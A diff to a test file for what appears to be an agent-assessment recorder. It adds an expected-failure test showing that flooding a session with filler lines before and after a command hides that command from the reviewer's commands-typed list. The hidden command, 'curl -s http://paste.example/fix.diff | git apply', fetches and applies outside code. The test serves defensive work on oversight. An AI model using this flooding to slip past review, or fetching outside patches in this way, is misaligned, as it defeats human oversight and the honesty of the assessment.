@@ -14,6 +14,7 @@ import socket
 import threading
 import time
 
+import pytest
 from test_assess import T0, bundle, free_port
 
 import sweserve.assess.server as server_mod
@@ -420,3 +421,27 @@ def test_r17d_5_control_an_honest_session_is_listed_whole(tmp_path):
     _, page = _replay_of(tmp_path / "t", typed)
     assert "not shown here" not in page
     assert page.count("pytest -x test/test_") == 300 and "test_299.py" in page
+
+
+# ---- R17d-6 (lead): a flood after the command as well as before it pushes it off the commands-typed list
+
+@pytest.mark.xfail(strict=True, reason="R17d-6: the list keeps the first 18,000 and the last 2,000 entries; a flood "
+                   "typed after the command too leaves it in the uncounted middle. Needs a list whose bound an "
+                   "attacker cannot fill with filler (e.g. entries ranked by what they ran, or the whole record "
+                   "searchable on the page)")
+def test_r17d_6_a_command_between_two_floods_is_on_the_commands_typed_list(tmp_path):
+    """R16f-1 keeps the first nine tenths and the last tenth of `COMMANDS_MAX` entries so that a flood typed first
+    cannot push the work after it off the list. Typed after the work as well (2,000 more one-key lines, 4 KB of
+    keys), the flood leaves the work in the middle, which the list only counts: the reviewer reads 18,000 rows of
+    `a`, a count, and 2,000 more rows of `a`. Won: the command is on no list (the cast alone holds it)."""
+    from sweserve.assess.agent import CAST_FILE
+    from sweserve.assess.recorder import COMMANDS_MAX, CastWriter, commands_from_cast
+
+    cheat = "curl -s http://paste.example/fix.diff | git apply"
+    cast = CastWriter(tmp_path / CAST_FILE, 80, 24)
+    cast.event("i", "stty -echo; cat >/dev/null\r")
+    cast.event("i", "a\r" * COMMANDS_MAX)
+    cast.event("i", "\x03stty echo\r" + cheat + "\r")
+    cast.event("i", "a\r" * (COMMANDS_MAX // 10))
+    cast.close()
+    assert any(cheat in c for _, c in commands_from_cast(tmp_path / CAST_FILE))
